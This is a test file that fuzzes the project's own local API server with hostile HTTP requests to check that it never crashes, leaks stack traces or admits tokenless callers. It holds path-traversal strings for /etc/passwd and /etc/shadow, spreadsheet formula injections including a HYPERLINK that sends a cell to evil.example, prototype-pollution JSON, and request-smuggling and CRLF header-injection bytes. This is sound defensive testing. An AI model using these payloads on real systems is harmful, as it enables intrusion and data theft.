import assert from 'node:assert/strict';
import { Agent, request as httpRequest, type Server } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import { createApiApp } from '../../api/app.js';
import { API_ROUTES } from '../../api/routes/index.js';
import type { ApiRoute } from '../../api/route-registry.js';
import { signLoginEvent } from '../../services/restore/login-signature.js';
import { startStack, type Stack } from '../support/stack.js';

/*
 * Hostile HTTP over every route the server has: every /api route of the registry (the login
 * webhook and the bulk CSV upload among them) and the routes outside it (health, metrics, the
 * admin login and Bull Board). Each is sent path traversal, spreadsheet formulas, bytes that are
 * not UTF-8, JSON nested 10,000 deep, 100 MB bodies and header floods, with and without
 * credentials. Not one answer may be a 5xx or carry a stack trace, a route that needs a token
 * never answers 2xx without one, and a probe of /healthz on its own connection is answered
 * all the while.
 */

const TOKENS = { viewer: 'viewer-token-0123456789', operator: 'operator-token-0123456789' };
const WEBHOOK_SECRET = 'webhook-secret-0123456789';
const MB = 1024 * 1024;

const HOSTILE_SEGMENTS = [
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fshadow',
  '....%2f%2f....%2f%2fetc%2fpasswd',
  '..%5c..%5cwindows%5cwin.ini',
  '%252e%252e%252fetc%252fpasswd',
  '%c0%ae%c0%ae%2f',
  '%ff%fe%fd',
  '%ed%a0%80',
  '%00',
  encodeURIComponent("=cmd|' /C calc'!A0"),
  encodeURIComponent("+SUM(1+1)*cmd|' /C calc'!A0"),
  encodeURIComponent("-2+3+cmd|' /C calc'!A0"),
  encodeURIComponent('@SUM(1+1)'),
  encodeURIComponent('\t=1+1'),
  encodeURIComponent('zoë o’neil "quoted" + / ? # % ..'),
  encodeURIComponent('\u202Egnp.exe'),
];

/** Paths outside the /api registry, and what they are. */
const OTHER_ROUTES: Array<{ method: string; path: string; open: boolean }> = [
  { method: 'GET', path: '/healthz', open: true },
  { method: 'GET', path: '/readyz', open: true },
  { method: 'GET', path: '/metrics', open: true },
  { method: 'GET', path: '/admin/login', open: true },
  { method: 'POST', path: '/admin/login', open: true },
  { method: 'POST', path: '/admin/logout', open: true },
  { method: 'GET', path: '/admin/queues', open: false },
  { method: 'GET', path: '/admin/queues/api/queues', open: false },
];

interface Answer {
  status: number;
  body: string;
  location?: string;
}

const deepArray = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
const deepObject = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
const FORMULA_CSV = [
  'username,displayName,emailAddress',
  '"=cmd|\' /C calc\'!A0",=HYPERLINK("http://evil.example/?"&A1),@SUM(1)',
  '+alice,-bob,"\t=1+1"',
].join('\n');

/** Body kinds for a route that takes one: [content type, bytes]. */
function hostileBodies(): Array<[string, Buffer | string]> {
  return [
    ['application/json', deepArray(10_000)],
    ['application/json', deepObject(10_000)],
    [
      'application/json',
      Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0xae, 0x22, 0x7d]),
    ],
    ['application/json; charset=latin1', Buffer.from('{"mode":"dry-run","x":"\xe9\xff"}', 'latin1')],
    ['application/json; charset=utf-16', Buffer.from('{"mode":"dry-run"}', 'utf16le')],
    [
      'application/json',
      JSON.stringify({ name: "=cmd|' /C calc'!A0", displayName: '+1', emailAddress: '@x' }),
    ],
    ['application/json', '{"__proto__":{"admin":true},"constructor":{"prototype":{"polluted":true}}}'],
    ['application/json', JSON.stringify({ rows: [{ username: '../../etc/passwd', displayName: '=1+1' }] })],
    ['text/csv', FORMULA_CSV],
    [
      'text/csv',
      Buffer.concat([
        Buffer.from('username,displayName\n'),
        Buffer.from([0xff, 0xfe, 0x2c, 0xc0, 0xae, 0x0a]),
      ]),
    ],
    ['text/csv', `username\n"${'x'.repeat(70_000)}\n`],
    ['application/x-www-form-urlencoded', 'username=%ff%fe&password=' + '%00'.repeat(100)],
    ['application/octet-stream', Buffer.alloc(4096, 0xff)],
  ];
}

describe('reliability: hostile HTTP input over every route', function () {
  this.timeout(170_000);
  let stack: Stack;
  let server: Server;
  let port: number;
  const agent = new Agent({ keepAlive: true, maxSockets: 4 });

  before(async () => {
    // No workers: a request that happens to be valid queues work that nothing carries out.
    stack = await startStack({
      sim: { users: 5 },
      workers: false,
      config: {
        api: {
          tokens: [
            { name: 'dashboards', token: TOKENS.viewer, role: 'viewer' },
            { name: 'ops', token: TOKENS.operator, role: 'operator' },
          ],
          loginWebhookSecret: WEBHOOK_SECRET,
        },
      },
    });
    server = createApiApp(stack.app).listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    port = (server.address() as AddressInfo).port;
  });
  after(async () => {
    agent.destroy();
    server?.closeAllConnections();
    await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
    await stack?.close();
  });

  /** One request; a body may be a stream. Resolves with the answer even if the server stops reading. */
  function send(
    method: string,
    path: string,
    headers: Record<string, string> = {},
    body?: Buffer | string | Readable,
  ): Promise<Answer> {
    return new Promise((resolve, reject) => {
      let answered = false;
      const req = httpRequest(
        { host: '127.0.0.1', port, method, path, headers, agent: body instanceof Readable ? false : agent },
        (res) => {
          answered = true;
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () =>
            resolve({
              status: res.statusCode ?? 0,
              body: Buffer.concat(chunks).toString('utf8'),
              ...(res.headers.location ? { location: res.headers.location } : {}),
            }),
          );
          res.on('error', reject);
        },
      );
      req.on('error', (error) => {
        if (!answered) reject(error);
      });
      if (body instanceof Readable) {
        body.on('error', () => undefined);
        body.pipe(req);
        req.on('close', () => body.destroy());
      } else req.end(body);
    });
  }

  /** Raw bytes on a fresh connection (what no HTTP client library would send): the status line. */
  function sendRaw(bytes: Buffer): Promise<Answer> {
    return new Promise((resolve, reject) => {
      const socket = connect(port, '127.0.0.1');
      const chunks: Buffer[] = [];
      socket.on('data', (chunk: Buffer) => chunks.push(chunk));
      socket.on('error', (error) => (chunks.length ? undefined : reject(error)));
      socket.on('close', () => {
        const text = Buffer.concat(chunks).toString('latin1');
        const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(text)?.[1] ?? 0);
        resolve({ status, body: text.slice(text.indexOf('\r\n\r\n') + 4) });
      });
      socket.end(bytes);
    });
  }

  it('answers 2,000+ hostile requests with no 5xx, no stack trace, and no way in without a token', async () => {
    const failures: string[] = [];
    const statuses = new Map<number, number>();
    const kinds = new Map<string, number>();
    let sent = 0;

    // The probe: /healthz on a connection of its own, every 50 ms, the whole time.
    let probing = true;
    const probes = { ok: 0, failed: [] as string[] };
    const probe = (async () => {
      const probeAgent = new Agent({ keepAlive: true, maxSockets: 1 });
      while (probing) {
        await new Promise<void>((resolve) => {
          const req = httpRequest(
            { host: '127.0.0.1', port, path: '/healthz', agent: probeAgent, timeout: 10_000 },
            (res) => {
              res.resume();
              res.on('end', () => {
                if (res.statusCode === 200) probes.ok += 1;
                else probes.failed.push(`status ${res.statusCode}`);
                resolve();
              });
            },
          );
          req.on('timeout', () => req.destroy(new Error('no answer within 10 s')));
          req.on('error', (error) => {
            probes.failed.push(error.message);
            resolve();
          });
          req.end();
        });
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      probeAgent.destroy();
    })();

    const check = (kind: string, where: string, answer: Answer, needsToken: boolean, authed: boolean) => {
      sent += 1;
      kinds.set(kind, (kinds.get(kind) ?? 0) + 1);
      statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
      const what = `[${kind}] ${where.slice(0, 160)} → ${answer.status}`;
      if (answer.status === 0 || answer.status >= 500) failures.push(`${what}: ${answer.body.slice(0, 200)}`);
      if (/\n\s+at .+:\d+:\d+|node_modules|\/work\/|\.ts:\d+/.test(answer.body))
        failures.push(`${what}: a stack trace or a path`);
      // Without a token: refused, or (Bull Board, for a browser) sent to the login page.
      const toLogin = answer.status === 303 && answer.location?.startsWith('/admin/login');
      if (needsToken && !authed && answer.status < 400 && !toLogin)
        failures.push(`${what}: answered without a token`);
    };
    const auths: Array<[string, Record<string, string>]> = [
      ['none', {}],
      ['viewer', { authorization: `Bearer ${TOKENS.viewer}` }],
      ['operator', { authorization: `Bearer ${TOKENS.operator}` }],
    ];
    const routes: Array<{ method: string; path: string; needsToken: boolean; route?: ApiRoute }> = [
      ...API_ROUTES.map((route) => ({
        method: route.method.toUpperCase(),
        path: `/api${route.path}`,
        needsToken: route.role !== null,
        route,
      })),
      ...OTHER_ROUTES.map((route) => ({ method: route.method, path: route.path, needsToken: !route.open })),
    ];

    try {
      // 1. Every route, every hostile path segment (as a parameter, or appended), every caller.
      for (const { method, path, needsToken } of routes) {
        for (const segment of HOSTILE_SEGMENTS) {
          const target = path.includes(':') ? path.replace(/:(\w+)/g, segment) : `${path}/${segment}`;
          for (const [auth, headers] of auths) {
            const query = `?q=${segment}&limit=${segment}&runId=${segment}&verdict=${segment}&cursor=${segment}`;
            const answer = await send(method, target + query, headers, method === 'GET' ? undefined : '');
            check(
              'path',
              `${method} ${target}`,
              answer,
              needsToken && target.startsWith(path.split(':')[0]!),
              auth !== 'none',
            );
          }
        }
        // Traversal out of the route, and into another one.
        for (const escape of [
          '/../../../../etc/passwd',
          '/..%2f..%2f..%2fadmin%2fqueues',
          '/%2e%2e/%2e%2e/api/runs',
        ]) {
          const answer = await send(method, path.replace(/:(\w+)/g, 'x') + escape);
          check('traversal', `${method} ${path}${escape}`, answer, true, false);
        }
      }

      // 2. Every route that reads a body (and every POST and PATCH), every hostile body.
      const bodyRoutes = routes.filter((route) => route.method !== 'GET');
      for (const { method, path, needsToken } of bodyRoutes) {
        const target = path.replace(/:(\w+)/g, 'alice');
        for (const [type, body] of hostileBodies()) {
          for (const [auth, headers] of auths) {
            const answer = await send(method, target, { ...headers, 'content-type': type }, body);
            check('body', `${method} ${target} ${type}`, answer, needsToken, auth !== 'none');
          }
        }
      }

      // 3. The webhook, correctly signed, so its hostile bodies get past the signature to the parser.
      for (const [type, body] of hostileBodies()) {
        const text = Buffer.isBuffer(body) ? body.toString('utf8') : body;
        const answer = await send(
          'POST',
          '/api/events/login',
          {
            'content-type': type,
            'x-reclaim-signature': signLoginEvent(WEBHOOK_SECRET, text),
          },
          body,
        );
        check('signed-webhook', `POST /api/events/login ${type}`, answer, false, true);
      }

      // 4. 100 MB bodies, streamed, to every kind of body parser: each refused without reading it all.
      for (const [path, type] of [
        ['/api/runs', 'application/json'],
        ['/api/users/alice', 'application/json'],
        ['/api/users/bulk-update', 'application/json'],
        ['/api/users/bulk-update', 'text/csv'],
        ['/api/users/bulk-update', 'text/csv; rows'],
        ['/api/events/login', 'application/json'],
        ['/admin/login', 'application/x-www-form-urlencoded'],
      ] as const) {
        let left = 100 * MB;
        // One line of 100 MB, or (`rows`) a header and a million rows of 100 bytes.
        const row = `alice,${'A'.repeat(93)}\n`;
        const chunk =
          type === 'text/csv'
            ? Buffer.alloc(MB, 'x')
            : type === 'text/csv; rows'
              ? Buffer.from(row.repeat(MB / row.length))
              : Buffer.alloc(MB, ' ');
        let first = type === 'text/csv; rows';
        const stream = new Readable({
          read() {
            if (first) this.push('username,display_name\n');
            first = false;
            this.push(left > 0 ? chunk : null);
            left -= chunk.length;
          },
        });
        const method = path === '/api/users/alice' ? 'PATCH' : 'POST';
        const answer = await send(
          method,
          path,
          {
            authorization: `Bearer ${TOKENS.operator}`,
            'content-type': type,
            'content-length': String(100 * MB),
          },
          stream,
        );
        check('100MB', `${method} ${path} ${type}`, answer, false, true);
        if (answer.status !== 413 && answer.status !== 400)
          failures.push(`100 MB to ${path} (${type}): ${answer.status}`);
      }

      // 5. Header floods and bytes no client library sends, on raw connections, to every route.
      for (const { method, path } of routes) {
        const target = path.replace(/:(\w+)/g, 'alice');
        const floods: Array<[string, Buffer]> = [
          [
            '3000 headers',
            Buffer.from(
              `${method} ${target} HTTP/1.1\r\nHost: x\r\n${Array.from({ length: 3000 }, (_, i) => `x-h${i}: 1\r\n`).join('')}\r\n`,
            ),
          ],
          [
            'one 64 KB header',
            Buffer.from(`${method} ${target} HTTP/1.1\r\nHost: x\r\nx-big: ${'a'.repeat(64 * 1024)}\r\n\r\n`),
          ],
          [
            '500 tokens',
            Buffer.from(
              `${method} ${target} HTTP/1.1\r\nHost: x\r\n${Array.from({ length: 500 }, () => `Authorization: Bearer ${TOKENS.viewer}\r\n`).join('')}Connection: close\r\n\r\n`,
            ),
          ],
          [
            'bytes in the request line',
            Buffer.concat([
              Buffer.from(`${method} ${target}/`),
              Buffer.from([0xff, 0xfe, 0x00, 0x80]),
              Buffer.from(' HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'),
            ]),
          ],
          [
            'smuggling',
            Buffer.from(
              `${method} ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n`,
            ),
          ],
          [
            'CR LF in a header',
            Buffer.from(
              `${method} ${target} HTTP/1.1\r\nHost: x\r\nX-Request-Id: a\rSet-Cookie: evil=1\r\nConnection: close\r\n\r\n`,
            ),
          ],
        ];
        for (const [kind, bytes] of floods) {
          const answer = await sendRaw(bytes);
          check('raw', `${kind}: ${method} ${target}`, answer, false, true);
          if (/set-cookie: evil/i.test(answer.body)) failures.push(`${kind}: a header was injected`);
        }
      }
    } finally {
      probing = false;
      await probe;
    }

    assert.deepEqual(failures, [], `${failures.length} of ${sent}`);
    assert.ok(sent >= 2000, `${sent} requests sent`);
    assert.deepEqual(probes.failed, [], 'the server kept answering /healthz');
    assert.ok(probes.ok > 10, `${probes.ok} probes answered`);
    // The requests reached each layer: auth, the parsers, validation, the handlers.
    for (const status of [400, 401, 404, 413, 431])
      assert.ok(statuses.has(status), `some answers were ${status}`);
    console.log(
      `      ${sent} requests: ${JSON.stringify(Object.fromEntries(kinds))}; statuses ${JSON.stringify(Object.fromEntries([...statuses].sort()))}; ${probes.ok} health probes answered`,
    );
  });
});
